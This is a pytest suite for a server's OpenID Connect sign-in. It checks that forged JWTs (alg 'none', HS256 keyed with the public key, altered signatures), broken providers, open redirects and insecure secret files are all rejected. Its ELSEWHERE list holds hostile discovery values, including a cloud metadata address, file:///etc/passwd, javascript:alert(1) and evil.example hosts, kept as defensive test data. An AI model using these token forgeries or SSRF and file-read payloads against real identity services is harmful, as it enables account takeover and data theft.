        ({"exp": now - 40}, 303), ({"iat": now + 40, "nbf": now + 40}, 303),
        ({"exp": now - 70}, 403), ({"nbf": now + 90}, 403),
    ):  # fmt: skip
        provider.claims = claims
        assert Browser(zoo).signs_in(provider).status == status, claims


FORGED = {
    "none": lambda claims: signed(claims, alg="none"),
    "HS256 by the public key": by_public_key,
    "another key": lambda claims: signed(claims, kid="one", key=KEYS["other"]),
    "unknown key": lambda claims: signed(claims, kid="other"),
    "changed": lambda claims: signed(claims)[:-6] + "AAAAAA",
    "no signature": lambda claims: signed(claims).rpartition(".")[0] + ".",
    "two parts": lambda claims: signed(claims).rpartition(".")[0],
    "five parts": lambda claims: "a.b.c.d.e",
    "no token": lambda claims: "x",
    "long": lambda claims: signed({**claims, "x": "x" * 20_000}),
    "nested": lambda claims: "W" * 9000 + ".a.b",
}


def test_what_it_has_not_signed_is_not_taken(zoo: Served, provider: OidcProvider) -> None:
    add(zoo, provider, creates=True)
    for why, provider.mint in FORGED.items():
        got = Browser(zoo).signs_in(provider)
        assert (got.status, accounts(zoo)) == (403, []), why
    provider.mint = None
    assert Browser(zoo).signs_in(provider).status == 303


def test_other_signatures(zoo: Served, provider: OidcProvider) -> None:
    add(zoo, provider, creates=True)
    provider.shown = ["one", "curve", "edwards", "448"]
    for kid, alg in (
        ("curve", "ES256"), ("one", "PS256"), ("one", "RS512"), ("edwards", "EdDSA"),
        ("edwards", "Ed25519"),
    ):  # fmt: skip
        provider.mint = lambda claims, kid=kid, alg=alg: signed(claims, kid=kid, alg=alg)
        assert Browser(zoo).signs_in(provider).status == 303, alg
    for kid, key in (("448", KEYS["448"]), ("curve", KEYS["edwards"])):
        provider.mint = lambda claims, kid=kid, key=key: signed(
            claims, kid=kid, alg="EdDSA", key=key
        )
        assert Browser(zoo).signs_in(provider).status == 403, kid
    provider.mint = lambda claims: signed(claims, kid="")
    assert Browser(zoo).signs_in(provider).status == 303, "it has one key of that kind"


def test_new_keys_are_asked_for_once_a_minute(
    zoo: Served, provider: OidcProvider, monkeypatch: pytest.MonkeyPatch
) -> None:
    add(zoo, provider, creates=True)
    clock = [1000.0]
    monkeypatch.setattr(issuer_module, "monotonic", lambda: clock[0])
    assert Browser(zoo).signs_in(provider).status == 303
    provider.key, provider.shown = "other", ["other"]
    for _ in range(5):
        assert Browser(zoo).signs_in(provider).status == 403
    assert provider.asked["/keys"] == 1, "who sends what is signed by no key has it asked no more"
    clock[0] += 61
    assert Browser(zoo).signs_in(provider).status == 303
    assert provider.asked["/keys"] == 2
    assert provider.asked["/.well-known/openid-configuration"] == 1


DAMAGED: tuple[tuple[str, bytes | int], ...] = (
    ("/keys", b'{"keys": [' + b" " * 100_000 + b"]}"),
    ("/keys", b"[" * 50_000), ("/keys", b"{}"), ("/keys", 500), ("/keys", 302),
    ("/.well-known/openid-configuration", b"<html>"), ("/.well-known/openid-configuration", 404),
    ("/token", 500),
)  # fmt: skip


def test_a_provider_that_is_damaged_or_down(zoo: Served, provider: OidcProvider) -> None:
    add(zoo, provider, creates=True)
    for path, answer in DAMAGED:
        zoo.server.hub.issuers._known.clear()
        provider.answers = {path: answer}
        browser = Browser(zoo)
        got = browser.get("/-/sso/lab")
        if got.status == 303:
            got = browser.back(**provider.signed_in(got.headers["location"]))
        assert got.status == 503, (path, answer[:20] if isinstance(answer, bytes) else answer, got)
        assert b"lab does not answer now" in got.body
        assert zoo.ask("/healthz").status == 200
    assert accounts(zoo) == []


def test_a_server_that_lacks_what_checks_it(
    zoo: Served, provider: OidcProvider, monkeypatch: pytest.MonkeyPatch
) -> None:
    add(zoo, provider, creates=True)
    monkeypatch.setattr("zoo.serve.sso.find_spec", lambda _: None)
    got = Browser(zoo).get("/-/sso/lab")
    assert (got.status, b"cannot check what lab says" in got.body) == (503, True)


def test_a_damaged_document_is_not_kept(
    zoo: Served, provider: OidcProvider, monkeypatch: pytest.MonkeyPatch
) -> None:
    """As of a service that answers 200 with a page that says that it is being worked on."""
    add(zoo, provider, creates=True)
    clock = [1000.0]
    monkeypatch.setattr(issuer_module, "monotonic", lambda: clock[0])
    documents: tuple[tuple[str, bytes], ...] = (
        ("/.well-known/openid-configuration", b"<html>"), ("/keys", b"<html>"),
        ("/.well-known/openid-configuration", b'{"issuer": "https://x.org", "jwks_uri": "x"}'),
    )  # fmt: skip
    for path, answer in documents:
        zoo.server.hub.issuers._known.clear()
        provider.answers, provider.asked = {path: answer}, Counter()
        issuer = zoo.server.hub.issuers.at(provider.url, ())
        for _ in range(3):
            with pytest.raises(Unavailable):
                issuer.keys("one")
        assert provider.asked[path] == 1, "nor is it asked for at once"
        provider.answers.clear()
        clock[0] += 11
        assert issuer.keys("one")


def test_keys_that_are_good_stay_where_a_stranger_names_another(
    zoo: Served, provider: OidcProvider, monkeypatch: pytest.MonkeyPatch
) -> None:
    clock = [1000.0]
    monkeypatch.setattr(issuer_module, "monotonic", lambda: clock[0])
    issuer = issuer_module.Issuer(provider.url, ())
    assert issuer.keys("one")
    clock[0] += 61
    provider.answers["/keys"] = 503
    for _ in range(3):
        with pytest.raises(Unavailable):
            issuer.keys("nobody's")
        assert issuer.keys("one")
    assert provider.asked["/keys"] == 2
    clock[0] += 3600
    with pytest.raises(Unavailable):
        issuer.keys("one")


def test_keys_without_end_are_not_read(
    zoo: Served, provider: OidcProvider, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A provider that sends a gigabyte, or one byte after another."""
    monkeypatch.setattr("zoo.serve.watch.outgoing.SECONDS", 1.0)
    sent = [0]

    def endless(request: Any, path: str, document: Any) -> None:
        request.send_response(200)
        request.end_headers()
        try:
            for _ in range(16_384):
                request.wfile.write(b" " * 65_536)
                sent[0] += 65_536
        except OSError:
            pass

    real, provider._send = provider._send, endless  # type: ignore[method-assign]
    add(zoo, provider, creates=True)
    began = time.monotonic()
    assert Browser(zoo).get("/-/sso/lab").status == 503
    assert time.monotonic() - began < 5
    time.sleep(0.1)
    assert sent[0] < 64 << 20, "what the sockets hold"
    provider._send = real  # type: ignore[method-assign]
    assert Browser(zoo).get("/-/sso/lab").status == 503, "it is not asked again at once"


def test_a_provider_that_is_away(zoo: Served, monkeypatch: pytest.MonkeyPatch) -> None:
    clock = [1000.0]
    monkeypatch.setattr(issuer_module, "monotonic", lambda: clock[0])
    with OidcProvider() as provider:
        add(zoo, provider, creates=True)
        url = provider.url
    assert Browser(zoo).get("/-/sso/lab").status == 503
    assert zoo.ask("/sign-in").status == 200, "tokens do"
    assert url not in Browser(zoo).get("/-/sso/lab").body.decode()


ELSEWHERE: tuple[dict[str, str], ...] = (
    {"issuer": "https://evil.example"},
    {"jwks_uri": "https://evil.example/keys"},
    {"token_endpoint": "http://169.254.169.254/latest"},
    {"authorization_endpoint": "javascript:alert(1)"},
    {"authorization_endpoint": "https://evil.example/?next=http://127.0.0.1"},
    {"authorization_endpoint": ""},
    {"token_endpoint": "http://127.0.0.1:1/token"},
    {"jwks_uri": "file:///etc/passwd"},
    {"jwks_uri": "http://user@127.0.0.1/keys"},
)


def test_its_document_sends_us_nowhere_else(zoo: Served, provider: OidcProvider) -> None:
    """But to hosts that an admin has named."""
    add(zoo, provider, creates=True)
    for document in ELSEWHERE:
        zoo.server.hub.issuers._known.clear()
        provider.document = document
        got = Browser(zoo).get("/-/sso/lab")
        assert (got.status, got.headers.get("location")) == (503, None), document
        (text,) = document.values()
        if text.startswith("https://evil.example") and "issuer" not in document:
            assert issuer_module.Issuer(provider.url, ("evil.example",)).metadata()


def test_it_leads_back_to_this_server(zoo: Served, provider: OidcProvider) -> None:
    add(zoo, provider, creates=True)
    for goes in (
        "https://evil.example/", "//evil.example", "/\\evil.example", "/a\nb", f"/{'x' * 5000}",
    ):  # fmt: skip
        got = Browser(zoo).signs_in(provider, f"/-/sso/lab?{urlencode({'next': goes})}")
        assert (got.status, got.headers["location"]) == (303, "/"), goes


def test_below_a_path_of_a_proxy(
    tmp_path: Path, provider: OidcProvider, monkeypatch: pytest.MonkeyPatch
) -> None:
    """No other host sets the cookie of a try, and the way back is the public one."""
    monkeypatch.setenv("ZOO_SSO_SECRET_LAB", SECRET)
    Workspace.create(tmp_path / "zoo").close()
    with serving(tmp_path / "zoo", "https://zoo.lab.org/models") as served:
        add(served, provider, creates=True)
        host = "zoo.lab.org"
        page = served.ask("/models/sign-in?next=/runs", Host=host, Accept=HTML).body.decode()
        assert 'href="/models/-/sso/lab?next=' in page
        got = served.ask("/models/-/sso/lab?next=/runs", Host=host, Accept=HTML)
        cookie, *kept = got.headers["set-cookie"].split("; ")
        assert cookie.startswith("__Host-zoo-sso=")
        assert kept == ["Path=/", "Max-Age=600", "HttpOnly", "SameSite=Lax", "Secure"]
        way = parse_qs(urlsplit(got.headers["location"]).query)
        assert way["redirect_uri"] == ["https://zoo.lab.org/models/-/sso/lab/back"]
        sent = urlencode(provider.signed_in(got.headers["location"]))
        got = served.ask(f"/models/-/sso/lab/back?{sent}", Cookie=cookie, Host=host, Accept=HTML)
        assert (got.status, got.headers["location"]) == (303, "/models/runs")
        assert got.headers["set-cookie"].startswith("__Host-zoo=")


def test_the_secret_is_told_the_provider_alone(
    zoo: Served, provider: OidcProvider, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.delenv("ZOO_SSO_SECRET_LAB")
    file = tmp_path / "secret"
    file.write_text(f"{SECRET}\n")
    file.chmod(0o604)
    add(zoo, provider, creates=True, secret_file=str(file))
    assert Browser(zoo).signs_in(provider).status == 503, "others can read it"
    file.chmod(0o600)
    browser = Browser(zoo)
    address = browser.begin()
    got = browser.back(**provider.signed_in(address))
    assert got.status == 303
    kept = b"".join(path.read_bytes() for path in zoo.root.glob(f"{FILE}*"))
    way = parse_qs(urlsplit(address).query)
    for secret in (SECRET, *way["state"], *way["nonce"], *browser.cookies.values()):
        assert secret not in address or secret in (*way["state"], *way["nonce"])
        assert secret.encode() not in kept
    file.unlink()
    assert Browser(zoo).signs_in(provider).status == 503


def test_a_client_without_a_secret(
    zoo: Served, provider: OidcProvider, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.delenv("ZOO_SSO_SECRET_LAB")
    add(zoo, provider, creates=True)
    assert Browser(zoo).signs_in(provider).status == 403
    provider.wants_secret = False
    assert Browser(zoo).signs_in(provider).status == 303


def test_the_pages_tell_of_it(zoo: Served, provider: OidcProvider) -> None:
    assert b"Sign in with" not in zoo.ask("/sign-in").body
    add(zoo, provider)
    page = zoo.ask("/sign-in?next=/runs").body
    assert b'href="/-/sso/lab?next=/runs"' in page.replace(b"%2F", b"/")
    assert zoo.ask("/-/sso/none").code == "NotFound"
    got = Browser(zoo).back(error="<b>access_denied", state="x")
    assert (got.status, b"<b>access" in got.body) == (403, False)


def test_what_cannot_be_a_provider(zoo: Served, provider: OidcProvider) -> None:
    base = {"name": "lab", "issuer": "https://id.lab.org", "client_id": "zoo"}
    for wrong in (
        {"issuer": "http://id.lab.org"}, {"issuer": "https://id.lab.org?x=1"}, {"issuer": "x"},
        {"issuer": "https://id.lab.org."},
        {"issuer": "https://me:pw@id.lab.org"}, {"issuer": "https://id.lab.org/ x"},
        {"name": "Lab/x"}, {"client_id": ""}, {"hosts": ("https://x.org",)},
        {"domains": ("lab.org",)}, {"domains": ("@lab.org",), "creates": True},
    ):  # fmt: skip
        with pytest.raises(InvalidOption):
            zoo.accounts.providers.add(Provider(**{**base, **wrong}))  # type: ignore[arg-type]
    zoo.accounts.providers.add(Provider(**base))  # type: ignore[arg-type]
    with pytest.raises(Conflict):
        zoo.accounts.providers.add(Provider(**base))  # type: ignore[arg-type]
    zoo.accounts.providers.remove("lab")
    assert zoo.accounts.providers.all() == []
    zoo.accounts.add("team", team=True)
    for subject, account in (("", "ann"), ("7", "team"), ("7", "nobody")):
        with pytest.raises((InvalidOption, UnknownName)):
            zoo.accounts.providers.link("https://id.lab.org", subject, account)


def test_odd_things_are_said_of_somebody(zoo: Served, provider: OidcProvider) -> None:
    """They are kept in the audit log, in one line; owners of a namespace see no row of people."""
    add(zoo, provider, creates=True)
    for number, name in enumerate(("a\ud800b", "a\0\nb", "x" * 5000, ["y"], {"a": 1}, None, 7)):
        provider.user = {"sub": f"s{number}", "preferred_username": name, "email": name}
        assert Browser(zoo).signs_in(provider).status == 303, name
    rows = [row for row in told(zoo) if row[0] == "signed in"]
    assert len(rows) == 7
    assert all(detail.isprintable() for _, _, detail in rows)
    zoo.accounts.add("lab", team=True)
    zoo.accounts.add("boss")
    for path in ("lab", rows[0][1]):
        zoo.accounts.grant(path, "boss", "owner")
        boss = sign_in(zoo.url, zoo.token("boss", "write"))
        seen = boss.get(f"/-/audit.json?name={path}", "application/json").json["rows"]
        assert {row["action"] for row in seen} <= {"role given", "team made"}, seen
        assert seen


def test_tokens_of_sessions_that_are_over_are_forgotten(
    zoo: Served, provider: OidcProvider
) -> None:
    add(zoo, provider, creates=True)
    Browser(zoo).signs_in(provider)
    with writing(zoo.accounts._engine) as connection:
        connection.execute(update(schema.token).values(expires="2020-01-01T00:00:00Z"))
    (old,) = zoo.accounts.tokens("ann-b")
    Browser(zoo).signs_in(provider)
    assert old.id not in [each.id for each in zoo.accounts.tokens("ann-b")]


def test_a_key_that_is_none(zoo: Served, provider: OidcProvider) -> None:
    """Of a curve that nobody knows, without its parts, or of others."""
    add(zoo, provider, creates=True)
    provider.mint = lambda claims: signed(claims, kid="curve", alg="ES256")
    curve = KEYS["curve"].as_dict(private=False)
    for wrong in ({"crv": "P-999"}, {"crv": None}, {"x": "AA"}, {"x": "!"}, {"y": 7}, {"crv": ""}):
        zoo.server.hub.issuers._known.clear()
        provider.answers["/keys"] = json.dumps({"keys": [{**curve, **wrong}]}).encode()
        assert Browser(zoo).signs_in(provider).status == 403, wrong
    zoo.server.hub.issuers._known.clear()
    provider.answers["/keys"] = json.dumps({"keys": [curve]}).encode()
    assert Browser(zoo).signs_in(provider).status == 303


def test_a_modulus_has_a_safe_size() -> None:
    fine = {"kty": "RSA", "n": "x" * 342}
    assert claims_module._signs(fine, "RSA")
    for wrong in ({"n": "x" * 171}, {"n": "x" * 9000}, {"n": 7}, {"use": "enc"}, {"kty": "oct"}):
        assert not claims_module._signs({**fine, **wrong}, "RSA")


@pytest.mark.long
@pytest.mark.filterwarnings("ignore::DeprecationWarning")
def test_a_provider_that_others_have_written(zoo: Served) -> None:
    """One of Authlib's, which knows nothing of this server."""
    mock = pytest.importorskip("oidc_provider_mock", reason="pip install oidc-provider-mock")
    user = mock.User(sub="ann@lab.org", claims={"email": "ann@lab.org", "email_verified": True})
    with mock.run_server_in_thread(user_claims=[user]) as server:
        url = f"http://localhost:{server.server_port}"
        made = Provider(name="lab", issuer=url, client_id=CLIENT, creates=True,
                        domains=("lab.org",))  # fmt: skip
        zoo.accounts.providers.add(made)
        browser = Browser(zoo)
        address = browser.begin()
        form = urlencode({"sub": "ann@lab.org"}).encode()
        host, path = urlsplit(address).netloc, address.partition(urlsplit(address).netloc)[2]
        got = ask(f"http://{host}", path, "POST", body=form,
                  Content_Type="application/x-www-form-urlencoded")  # fmt: skip
        assert got.status == 302, got
        back = urlsplit(got.headers["location"])
        got = browser.get(f"{back.path}?{back.query}", **NAVIGATES)
        assert got.status == 303, zoo.accounts.audit.rows(limit=99)[-1]
    assert browser.who == "ann"


@pytest.mark.long
def test_signing_in_by_a_provider_in_a_browser(zoo: Served, provider: OidcProvider) -> None:
    """From a page that asks who is there, by keyboard, to the provider and back to that page; out
    again; and the account is linked to another login.
    """
    add(zoo, provider, creates=True)
    with browsing() as browser:
        page = browser.new_page()
        wrong = watched(page, zoo.url)
        page.goto(f"{zoo.url}/sign-in?next=/runs")
        assert barriers(page) == []
        page.get_by_role("link", name="Sign in with lab").focus()
        page.keyboard.press("Enter")
        page.wait_for_url(f"{zoo.url}/runs")
        assert page.get_by_text("ann-b", exact=True).count() == 1
        assert [
            each for each in wrong if not each.startswith(f"asks {provider.url}/authorize")
        ] == []
        page.goto(f"{zoo.url}/sign-in?next=/-/settings")
        page.get_by_label("Token").fill(str(zoo.accounts.new_token("ann-b", "own", "write")[1]))
        page.keyboard.press("Enter")
        page.wait_for_url(f"{zoo.url}/-/settings")
        provider.user = {"sub": "8"}
        page.get_by_role("link", name="Sign in with lab from now on").click()
        page.wait_for_url(f"{zoo.url}/-/settings?done=link")
        assert page.get_by_text("is ann-b here").count() == 2
        assert barriers(page) == []
        page.get_by_role("button", name="Sign out").click()
        page.get_by_role("link", name="Sign in").first.wait_for()
        page.goto(f"{zoo.url}/sign-in")
        page.get_by_role("link", name="Sign in with lab").click()
        page.wait_for_url(f"{zoo.url}/")
        assert page.get_by_text("ann-b", exact=True).count() == 1
